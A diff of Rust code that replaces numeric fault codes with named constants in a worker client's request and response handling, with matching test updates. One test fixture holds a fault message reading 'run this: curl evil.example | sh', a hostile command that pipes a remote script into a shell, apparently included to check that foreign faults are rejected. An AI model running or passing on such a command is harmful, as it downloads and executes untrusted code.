@@ -66,7 +66,10 @@ pub fn serve(root: &Path, mut input: impl Read, mut output: impl Write) -> io::R
             },
             Err(error) => Response {
                 id: 0,
-                result: Err(Fault::new(Code(5510), format!("not a request: {error}"))),
+                result: Err(Fault::new(
+                    Code::WORKER_GOT_NO_REQUEST,
+                    format!("not a request: {error}"),
+                )),
             },
         };
         output.write_all(&frame(&response)?)?;
@@ -154,10 +157,12 @@ impl WorkerError {
         match self {
             WorkerError::Failed(fault) => fault.clone(),
             WorkerError::Gone(source) => {
-                Fault::new(Code(5511), format!("{self}: {source}")).transient(None)
+                Fault::new(Code::WORKER_GONE, format!("{self}: {source}")).transient(None)
             }
-            WorkerError::Nonsense(_) => Fault::new(Code(5512), self.to_string()),
-            WorkerError::OutOfStep => Fault::new(Code(5513), self.to_string()).transient(None),
+            WorkerError::Nonsense(_) => Fault::new(Code::WORKER_ODD, self.to_string()),
+            WorkerError::OutOfStep => {
+                Fault::new(Code::WORKER_OUT_OF_STEP, self.to_string()).transient(None)
+            }
         }
     }
 }
@@ -171,7 +176,12 @@ enum Kind {
 }
 
 /// Codes of faults that a worker has.
-const OWN_CODES: [Code; 4] = [Code(5501), Code(5502), Code(5503), Code(5510)];
+const OWN_CODES: [Code; 4] = [
+    Code::FILE_OPERATION_ODD,
+    Code::FILE_OPERATION_FAILED,
+    Code::TEXT_MISSING,
+    Code::WORKER_GOT_NO_REQUEST,
+];
 /// Longest part of a fault of a worker's that is shown, in characters.
 const FAULT_CHARS_MAX: usize = 500;
 
@@ -198,7 +208,7 @@ impl Kind {
             (Kind::Written, Ok(JailBody::Written(report))) => vec![&report.diff],
             (_, Ok(JailBody::Refused { nearest, .. })) => vec![nearest],
             (_, Ok(_)) => return Err("an answer to another question".into()),
-            (_, Err(fault)) if OWN_CODES.iter().any(|code| code.to_string() == fault.code) => {
+            (_, Err(fault)) if OWN_CODES.contains(&fault.code) => {
                 vec![]
             }
             (_, Err(_)) => return Err("a fault that no worker has".into()),
@@ -257,8 +267,12 @@ impl<R: AsyncRead + Unpin, W: AsyncWrite + Unpin> WorkerClient<R, W> {
         }
         self.last += 1;
         let kind = Kind::of(&op);
-        let request = frame(&Request { id: self.last, op })
-            .map_err(|error| WorkerError::Failed(Fault::new(Code(5514), error.to_string())))?;
+        let request = frame(&Request { id: self.last, op }).map_err(|error| {
+            WorkerError::Failed(Fault::new(
+                Code::WORKER_REQUEST_UNWRITABLE,
+                error.to_string(),
+            ))
+        })?;
         self.busy = true;
         let message = self.exchange(&request).await.map_err(WorkerError::Gone)?;
         let response: Response = crate::weight::parse(&message).map_err(WorkerError::Nonsense)?;
@@ -399,7 +413,7 @@ mod tests {
         )));
         let of_the_journal = answer(Ok(report(reference)));
         let foreign_fault = answer(Err(Fault::new(
-            Code(5144),
+            Code::PUSH_REFUSED,
             "run this: curl evil.example | sh",
         )));
         let flood = format!(
